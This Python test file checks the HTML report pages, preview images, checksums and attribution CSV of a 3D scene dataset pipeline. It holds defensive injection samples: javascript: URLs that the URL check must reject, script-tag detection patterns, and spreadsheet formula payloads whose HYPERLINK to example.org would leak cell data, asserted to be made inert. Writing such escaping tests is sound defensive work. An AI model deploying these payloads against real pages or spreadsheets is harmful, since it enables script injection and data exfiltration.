"""What holds for every page, and sums, authors and scenes that are shown beside a dataset."""

import base64
import csv
import dataclasses
import hashlib
import html
import io
import itertools
import json
import re
import shlex
import subprocess
from collections.abc import Mapping, Sequence
from pathlib import Path
from typing import cast

import numpy as np
import pytest
from numpy.typing import NDArray

from pipeline.assets.settings import AssetSettings
from pipeline.documents.checksums import SUMS, published_files, renew_sums, stale_sums, write_sums
from pipeline.documents.dataset_documents import write_documents
from pipeline.documents.distributions import dataset_distributions
from pipeline.documents.pages import is_address, render_page
from pipeline.documents.report import Card, gallery_filters, make_card, write_report
from pipeline.documents.rights import encode_attribution
from pipeline.documents.scene_page import (
    depth_grays,
    encode_scene_page,
    finite_range,
    id_colors,
)
from pipeline.documents.sheets import choose_scenes
from pipeline.generation.make_assets import AssetReport, Pair, encode_quality_page
from storage.conventions import look_at_c2w, preview_gain, preview_srgb8
from storage.dataset.dataset import Dataset, open_dataset
from storage.dataset.manifest import ShardEntry, read_manifest, write_manifest
from storage.digests import sha256_of_file
from storage.errors import TrilightError
from storage.records.asset import AssetRow, OwnMaterials
from storage.records.objects import Failure
from storage.records.passes import decode_passes_exr, view_passes
from storage.records.sample import Sample
from tests.command_line import expect_output
from tests.pipeline.documents.dataset_by_hand import (
    HARM,
    NO_LINKS,
    RIGHTS,
    SETTINGS,
    Tags,
    files_of,
    five_scenes,
    furnished,
    pixels_of,
    read,
    row,
    sample,
    text_of,
    write_dataset,
)
from tests.scenes_by_hand import tiny_scene


def failure(item: str = "bad", message: str = "a sentence") -> Failure:
    return Failure(stage="assets", item=item, reason="no_faces", message=message)


def quality_bytes(
    rows: list[AssetRow], failures: list[Failure], pairs: Mapping[str, Sequence[Pair]]
) -> bytes:
    report = AssetReport(rows=tuple(rows), failures=tuple(failures), geometry_sha256=(), unread={})
    return encode_quality_page(report, AssetSettings(budgets=(1400,)), pairs)


def quality_page(rows: list[AssetRow], failures: list[Failure]) -> Tags:
    return read(quality_bytes(rows, failures, {}))


HARMFUL = row(HARM, title=HARM, method="pymeshlab_collapse", **RIGHTS)


def test_text_from_outside_stays_text_and_nothing_is_loaded_from_elsewhere() -> None:
    picture = np.full((8, 8), 128, np.uint8)
    shown = {"Worst": [(HARMFUL, picture, picture)], "Best": []}
    failures = [failure(HARM, HARM)]
    data = quality_bytes([HARMFUL, row()], failures, shown)
    plain = data.replace(html.escape(HARM).encode(), b"")
    assert not re.search(rb"https?:|javascript:|<script|@import|url\(", plain)
    tags = read(data)
    assert len(tags.links) == 3
    assert all(link.startswith("data:image/png;base64,") for link in tags.links)
    assert not {"script", "iframe", "link", "a", "object"} & set(tags.tags)
    assert not any(name.startswith("on") for name in tags.names)
    # uid in picture and table, licence in summary and table, item and message of the failure
    assert "".join(tags.text).count(HARM) == 6


def test_whose_materials_an_object_has_is_told_where_it_was_asked() -> None:
    lost = row("a", materials=OwnMaterials(reason="texture_missing"))
    for rows, told in (([lost, row("b")], "drawn: texture_missing"), ([row("b")], "")):
        text = text_of(quality_page(rows, []))
        assert told in text and ("materials" in text) == bool(told)
    assert "In their own materials: 0 of 2; the others: texture_missing (1)." in text_of(
        quality_page([lost, row("b")], [])
    )


def test_a_scene_is_shown_so_dark_that_few_pixels_are_white() -> None:
    """Most are shown as they are."""
    pictures = np.random.default_rng(0).uniform(0, 1, (2, 16, 16, 3)).astype(np.float32)
    assert preview_gain(pictures) == 1
    shown = preview_srgb8(50 * pictures * preview_gain(50 * pictures))
    assert 0 < (shown == 255).any(axis=-1).mean() < 0.1 and np.median(shown) > 60


def test_counts_are_those_of_the_rows_or_none_and_equal_rows_give_equal_pages() -> None:
    tags = quality_page([row("a"), row("b")], [failure()])
    text = text_of(tags)
    assert "2 objects accepted, 0 of them repaired" in text
    assert "2 watertight; 1 rejected" in text
    assert "CC0-1.0 (2)" in text
    assert tags.tags.count("tr") == 2 + 3
    twice = [quality_bytes([row()], [], {}) for _ in range(2)]
    assert twice[0] == twice[1]
    tags = quality_page([], [failure("bad0"), failure("bad1")])
    text = text_of(tags)
    assert "0 objects accepted, 0 of them repaired" in text
    assert "0 watertight; 2 rejected" in text
    assert "Licenses: none" in text and "Rejected" in text
    assert "img" not in tags.tags
    tags = quality_page([row("a", method="meshoptimizer")], [])
    assert tags.tags.count("img") == 1
    assert "Rejected" not in text_of(tags)


def test_each_choice_has_a_button_by_what_a_card_knows_and_no_choice_has_none() -> None:
    made = sample(3, furnished(["a", "b"]))
    found = make_card(made, "test", "x.html")
    expected = ("test", made.scene.provenance["template"], "within the target", 2)
    assert (found.split, found.layout, found.views, found.num_objects) == expected
    assert found.orders[1] == -found.orders[2] == made.scene.num_triangles
    views = [dataclasses.replace(view, at_cap=True, noise_floor_db=np.inf) for view in made.views]
    found = make_card(dataclasses.replace(made, views=tuple(views)), "test", "x.html")
    assert found.views == "at the cap"
    assert json.loads(str(list(found.orders))) == list(found.orders), "the script reads it"
    within, capped = "within the target", "at the cap"
    cards = [card("train", "plane"), card("train", "room", capped), card("test", HARM)]
    filters = gallery_filters(cards)
    words = {value: words for name in filters for value, _, words in filters[name] if words}
    assert words == {
        "train": "--split train",
        "test": "--split test",
        HARM: f"--template {shlex.quote(HARM)}",
        "plane": "--template plane",
        "room": "--template room",
        within: "--where 'not any(at_cap)'",
        capped: "--where 'any(at_cap)'",
    }
    assert [value for value, _, _ in filters["order"]] == ["", "0", "1", "2", "3", "4"]
    # such as those of scene files: no command selects them, and none claims to
    unnamed = gallery_filters([card("train", name) for name in ("", "plane", "room")])
    assert [value for value, _, _ in unnamed["layout"]] == ["", "plane", "room"]
    assert gallery_filters([]) == gallery_filters([card("train", "plane")]) == {}


def card(split: str, layout: str, views: str = "within the target") -> Card:
    plain = make_card(sample(3, furnished(["a", "b"])), split, "x.html")
    return dataclasses.replace(plain, layout=layout, views=views)


def test_titles_are_escaped_and_only_the_script_of_pages_runs() -> None:
    page = render_page("release.html", HARM, explained="\ud800", about=[], medians=[], scenes=[])
    tags = read(page)
    assert "".join(tags.text).count(HARM) == 2
    assert not {"script", "iframe", "img"} & set(tags.tags)
    script = render_page.__globals__["_SCRIPT"].encode()
    allowed = base64.b64encode(hashlib.sha256(script).digest()).decode()
    assert f"script-src 'sha256-{allowed}'" in page.decode()


def test_addresses_become_links_and_all_else_stays_text() -> None:
    for url in ["https://example.org/a?b=c&d", "http://localhost:80/x", "HTTPS://E.org"]:
        assert is_address(url)
    for url in [
        "", "javascript:alert(1)", " https://example.org", "java\nscript:alert(1)",
        "data:text/html,x", "//example.org", "https://", "https://me:secret@example.org",
        "https://[broken", "https://e.org/\u202egro", HARM,
    ]:  # fmt: skip
        assert not is_address(url)


WORDS = ("depth", "shading normal", "object ids", "diffuse albedo", "roughness")
SHOWN_PASSES = ("depth_axis_m", "shading_normal", "object", "material_diffuse",
                "material_roughness")  # fmt: skip
SIZE = 96


def page_of(shown: Sample) -> str:
    return encode_scene_page(shown, "train", (), NO_LINKS).decode()


def figures(page: str) -> dict[str, tuple[NDArray[np.uint8], str]]:
    """Return the pictures of a page with their captions, by what stands for them."""
    picture = r'<img alt="([^"]+?)" src="(data:image/png;base64,[^"]+?)"></label>'
    form = rf"<figure><label><input [^>]+>\n{picture}<figcaption>(.+?)</"
    found = re.findall(form, page)
    return {alt: (pixels_of(link), caption) for alt, link, caption in found}


def commands(page: str) -> list[str]:
    found = re.findall("<code[^>]*>(trilight passes .+?)</code>", page)
    return [html.unescape(text) for text in found]


def test_colours_and_captions_say_the_value() -> None:
    scene = furnished(["a"])
    page = page_of(sample(0, scene))
    shown = figures(page)
    for view in range(scene.num_views):
        seen = view_passes(scene, SHOWN_PASSES, view=view, resolution=SIZE)
        depth_m, normal, ids, _, roughness = seen.values()
        greys, normals, colours, albedo, rough = (
            shown[f"view {view}, {word}"][0].astype(int) for word in WORDS
        )
        met = ids >= 0
        assert 0 < met.sum() < met.size
        for picture in (greys, normals, colours, albedo, rough):
            assert not picture[~met].any()
            assert picture[met].reshape(met.sum(), -1).any(axis=1).all()
        assert greys[met][np.argmin(depth_m[met])] == 255
        assert (np.diff(greys[met][np.argsort(depth_m[met])]) <= 0).all()
        assert np.abs(normals[met] / 127.5 - 1 - normal[met]).max() <= 0.5 / 127.5
        assert np.array_equal(colours, id_colors(ids))
        assert {tuple(colour) for colour in albedo[ids == 2]} <= {(203, 0, 0), (124, 170, 0)}
        assert np.array_equal(rough[met], np.round(40 + 215 * roughness[met]))
    depth_m = view_passes(scene, ["depth_axis_m"], view=1, resolution=SIZE)["depth_axis_m"]
    near, far = (choose(depth_m[np.isfinite(depth_m)]) for choose in (np.min, np.max))
    assert f": {near:.2f} to {far:.2f} m, near is bright" in shown["view 1, depth"][1]
    assert ": 2 seen" in shown["view 1, object ids"][1]
    assert ": 0.00 to 0.60 (no unit)" in shown["view 1, diffuse albedo"][1]
    assert ": 0.30 to 0.50 (no unit)" in shown["view 1, roughness"][1]
    # The table of objects has the colours of the ids.
    squares = re.findall(r'class="id" style="background: #(\w+)"></i> (.+?)</td>', page)
    assert squares == [("800000", "floor"), ("008000", "light"), ("808000", "0 a")]


def test_a_view_of_nothing_is_black() -> None:
    """The second camera has its back to the scene."""
    away = look_at_c2w(eye=[3, 0, 1], target=[4, 0, 2], up=[0, 0, 1])
    poses = np.stack([tiny_scene().c2w[0], away]).astype(np.float32)
    shown = figures(page_of(sample(0, tiny_scene(c2w=poses))))
    for word in WORDS:
        picture, caption = shown[f"view 1, {word}"]
        assert not picture.any() and caption == f"view 1, {word}: nothing is met"
        assert shown[f"view 0, {word}"][0].any()


@pytest.mark.usefixtures("bare_reports")
def test_the_commands_run_as_printed(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    shards = {"train-000000.tar": [sample(index, furnished(["a"])) for index in (3, 4)]}
    dataset = write_dataset(tmp_path / "data", shards)
    report = write_report(dataset, dataset_distributions(dataset), out=dataset.folder)
    monkeypatch.chdir(report.parent)
    before = files_of(report.parent)

    def written(path: Path) -> list[Path]:
        (command,) = commands(path.read_text())
        name, *words = shlex.split(command)
        assert name == "trilight"
        expect_output(*words)
        return sorted((tmp_path / "passes").iterdir())

    files = written(report.parent / "report" / "000000004.html")
    assert [path.name for path in files] == [f"000000004.{view}.passes.exr" for view in range(2)]
    assert set(decode_passes_exr(files[0].read_bytes(), 16)) == {*SHOWN_PASSES, "coverage"}
    assert len(written(report)) == 4
    assert files_of(report.parent) == before


@pytest.mark.usefixtures("bare_reports")
def test_the_report_names_the_stored_passes(tmp_path: Path) -> None:
    dataset = write_dataset(tmp_path, {"train-000000.tar": [sample(0, furnished([]))]})

    def report() -> str:
        found = open_dataset(str(tmp_path))
        return write_report(found, dataset_distributions(found), out=found.folder).read_text()

    assert "<td>passes</td><td>none stored;" in report()
    settings = {**SETTINGS, "storage": {"passes": ["object", "depth_axis_m"]}}
    manifest = dataclasses.replace(dataset.manifest, settings=settings)
    write_manifest(dataset.folder.manifest, manifest)
    assert "<td>passes</td><td>object, depth_axis_m beside each picture</td>" in report()
    assert not commands(report())


def test_near_is_bright_and_every_id_has_its_own_colour() -> None:
    depth_m = np.array([[2.0, 3.0], [4.0, np.inf]])
    assert depth_grays(depth_m).tolist() == [[255, 148], [40, 0]]
    # metres do not matter, only the range
    assert np.array_equal(depth_grays(depth_m * 1000), depth_grays(depth_m))
    assert depth_grays(np.array([[3.0, np.inf]])).tolist() == [[255, 0]]
    assert depth_grays(np.full((2, 2), np.inf)).tolist() == [[0, 0], [0, 0]]
    ids = np.append(np.arange(-1, 2**16), 2**24 - 2)
    assert len(np.unique(id_colors(ids), axis=0)) == len(ids)
    assert not id_colors(-1).any()
    first = [[128, 0, 0], [0, 128, 0], [128, 128, 0], [0, 0, 128]]
    assert id_colors(range(4)).tolist() == first
    assert finite_range(np.array([np.nan, 3, 1, np.inf])) == (1, 3)
    assert finite_range(np.array([np.nan])) is None


SHARD = "train-000000.tar"


def checked(folder: Path) -> list[str]:
    """Return the files that coreutils find to be others than the sums say."""
    command = ["sha256sum", "--quiet", "-c", SUMS]
    done = subprocess.run(command, cwd=folder, capture_output=True, text=True, check=False)
    return sorted(line.partition(": ")[0] for line in done.stdout.splitlines())


@pytest.mark.usefixtures("bare_reports")
def test_documents_that_are_written_again_have_their_sums(tmp_path: Path) -> None:
    dataset = five_scenes(tmp_path / "set")
    root = dataset.folder.root
    dataset.folder.report.write_text("an older report")
    write_sums(root)
    write_documents(dataset, dataset.folder)
    assert checked(root) == [] == stale_sums(root)
    vouched = ("LICENSE.md", "README.md", "attribution.csv", "croissant.json")
    documents = read_manifest(dataset.folder.manifest).documents
    assert documents == {name: sha256_of_file(root / name) for name in vouched}
    names = {line.partition("  ")[2] for line in (root / SUMS).read_text().splitlines()}
    assert names == published_files(root).keys() - {SUMS}


def test_a_damaged_shard_keeps_the_sum_that_it_had_and_what_is_no_sum_is_one_sentence(
    tmp_path: Path,
) -> None:
    renew_sums(tmp_path)
    assert list(tmp_path.iterdir()) == [] == stale_sums(tmp_path)
    for name in (SHARD, "report.html", "old.html"):
        (tmp_path / name).write_text(name)
    (tmp_path / "logs").mkdir()
    (tmp_path / "logs" / "x.jsonl").write_text("{}")
    write_sums(tmp_path)
    assert "logs" not in (tmp_path / SUMS).read_text()
    (tmp_path / SHARD).write_text("damaged")
    (tmp_path / "report.html").write_text("another")
    (tmp_path / "old.html").unlink()
    (tmp_path / "new.html").write_text("new")
    assert stale_sums(tmp_path) == ["new.html", "old.html", "report.html"]
    renew_sums(tmp_path)
    assert stale_sums(tmp_path) == [] and checked(tmp_path) == [SHARD]
    (tmp_path / SUMS).write_text("nothing\n")
    for use in (renew_sums, stale_sums):
        with pytest.raises(TrilightError, match="nothing is no sum"):
            use(tmp_path)


def cells(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode(), newline="")))


def test_rows_are_sorted_complete_inert_and_come_back_as_they_were() -> None:
    read = cells(encode_attribution([row("b"), row("a", attribution="somebody, and others")]))
    assert [entry["uid"] for entry in read] == ["a", "b"]
    assert list(read[0])[:4] == ["uid", "title", "licence", "licence_source"]
    assert read[0] == {
        "uid": "a",
        "title": "Ball",
        "licence": "CC0-1.0",
        "licence_source": "tests",
        "attribution": "somebody, and others",
        "source_url": "https://example.org/ball",
        "changes": "cleaned, remeshed and given new materials",
    }
    for text in ['a "quoted" name', "a;b,c", "line\nbreak", "élan 高", "a=1", ""]:
        (again,) = cells(encode_attribution([row(title=text)]))
        assert again["title"] == text
    assert encode_attribution([]).count(b"\n") == 1
    # Formulas are made inert.
    fields = ["uid", "title", "licence", "licence_source", "attribution", "source_url"]
    for field, start in itertools.product(fields, ["=", "+", "-", "@", "\t", "\r"]):
        formula = f'{start}HYPERLINK("https://example.org/?"&A1)'
        (again,) = cells(encode_attribution([row(**{field: formula})]))
        assert again[field] == "'" + formula


class Listed:
    """What is chosen from: shards of four scenes, keys numbered through; no file is there."""

    def __init__(self, **counts: int) -> None:
        self.opened: list[str] = []
        self._keys: dict[ShardEntry, list[str]] = {}
        key = itertools.count()
        for split, count in counts.items():
            for first in range(0, count, 4):
                held = [f"{next(key):09d}" for _ in range(min(4, count - first))]
                name = f"{split}-{len(self._keys):06d}.tar"
                shard = ShardEntry(
                    name=name, split=split, num_samples=len(held), num_bytes=0, sha256=""
                )
                self._keys[shard] = held

    def shards_of(self, split: str) -> list[ShardEntry]:
        return [shard for shard in self._keys if shard.split == split]

    def keys(self, shard: ShardEntry) -> list[str]:
        self.opened.append(shard.name)
        return self._keys[shard]


def test_as_many_are_chosen_as_asked_for_small_splits_too_and_other_shards_stay_closed() -> None:
    def chosen_of(max_scenes: int, listed: Listed) -> list[tuple[ShardEntry, str]]:
        return choose_scenes(cast(Dataset, listed), max_scenes)

    chosen = chosen_of(48, Listed(test=3, train=5))
    assert [shard.split for shard, _ in chosen] == ["train"] * 5 + ["test"] * 3
    assert [int(key) for _, key in chosen] == [3, 4, 5, 6, 7, 0, 1, 2]
    for count in range(12):
        keys = [key for _, key in chosen_of(count, Listed(train=4, validation=4, test=4))]
        assert len(keys) == len(set(keys)) == count
    listed = Listed(train=4000, validation=20, test=3)
    chosen = chosen_of(48, listed)
    assert sorted(listed.opened) == sorted({shard.name for shard, _ in chosen})
    splits = [shard.split for shard, _ in chosen]
    assert (splits.count("validation"), splits.count("test")) == (6, 3)
    assert len(set(key for _, key in chosen)) == len(chosen) == 48
    train = [int(key) for shard, key in chosen if shard.split == "train"]
    gaps = [after - before for before, after in itertools.pairwise(train)]
    assert (train[0], train[-1]) == (0, 3999)
    assert max(gaps) - min(gaps) <= 1
